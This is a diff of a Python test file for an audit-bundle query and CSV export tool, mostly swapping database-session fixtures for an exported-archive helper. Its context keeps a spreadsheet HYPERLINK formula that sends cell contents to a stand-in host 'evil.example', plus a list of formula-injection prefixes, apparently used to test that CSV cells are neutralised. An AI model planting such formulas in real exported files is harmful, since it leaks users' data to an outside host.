@@ -15,14 +15,13 @@ from sqlmodel import col, select
 from typer.testing import CliRunner
 
 from coordinator.audit.append import append
-from coordinator.audit.export import bundle_archive, bundle_files
 from coordinator.audit.sequencer import integrate_once
 from coordinator.audit.tables import LogEntry
 from coordinator.audit.witnessing import accept_cosignatures, latest_note
-from coordinator.client.audit_bundle import AUDIT_FILES
+from coordinator.client.audit_bundle import AUDIT_FILES, read_archive
 from coordinator.client.audit_query import COLUMNS, AuditQuery, BadQuery, find, safe_cell, to_csv
 from coordinator.client.cli import app
-from coordinator.database import reading, transaction
+from coordinator.database import transaction
 from protocol.audit_event import EventType
 from protocol.bundle import pack
 from protocol.checkpoint import cosigner_key
@@ -30,7 +29,7 @@ from protocol.enrolment import witness_name
 from protocol.errors import CloisterError, VerificationFailed
 from protocol.timestamp import timestamp
 from protocol.witness_policy import WitnessPolicy
-from tests.coordinator.appliances import Made, TestSite
+from tests.coordinator.appliances import Made, TestSite, exported
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 FORMULAS = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "\n+1", "|calc", "%0", "\uff1d1", "\u00a0=1")
@@ -67,8 +66,7 @@ def logged(local: Made, tmp_path: Path) -> Made:
 
 @pytest.fixture
 def files(logged: Made) -> dict[str, bytes]:
-    with reading(logged.appliance.engine) as session:
-        return bundle_files(session, logged.appliance)
+    return read_archive(exported(logged))
 
 
 def subjects(files: dict[str, bytes], **filters: object) -> list[str]:
@@ -151,8 +149,7 @@ def test_an_erased_payload_is_said_to_be_erased(logged: Made) -> None:
     with transaction(logged.appliance.engine) as session:
         for row in session.exec(select(LogEntry).where(col(LogEntry.payload).is_not(None))):
             row.payload = row.salt = None
-    with reading(logged.appliance.engine) as session:
-        erased = bundle_files(session, logged.appliance)
+    erased = read_archive(exported(logged))
     (found,) = find(erased, AuditQuery.of(events=["study.refused"]))[1]
     assert (found.erased, found.payload) == (True, None)
     (other,) = find(erased, AuditQuery.of(events=["study.consented"]))[1]
@@ -218,8 +215,7 @@ main()
 @pytest.mark.processes
 def test_the_command_needs_nothing_but_the_bundle(logged: Made, tmp_path: Path) -> None:
     bundle = tmp_path / "bundle.tar"
-    with reading(logged.appliance.engine) as session:
-        bundle.write_bytes(bundle_archive(session, logged.appliance))
+    bundle.write_bytes(exported(logged))
 
     def query() -> subprocess.CompletedProcess[str]:
         arguments = [sys.executable, "-c", OFFLINE, "audit", "query", str(bundle), "--release", "heart-r1", "--csv"]
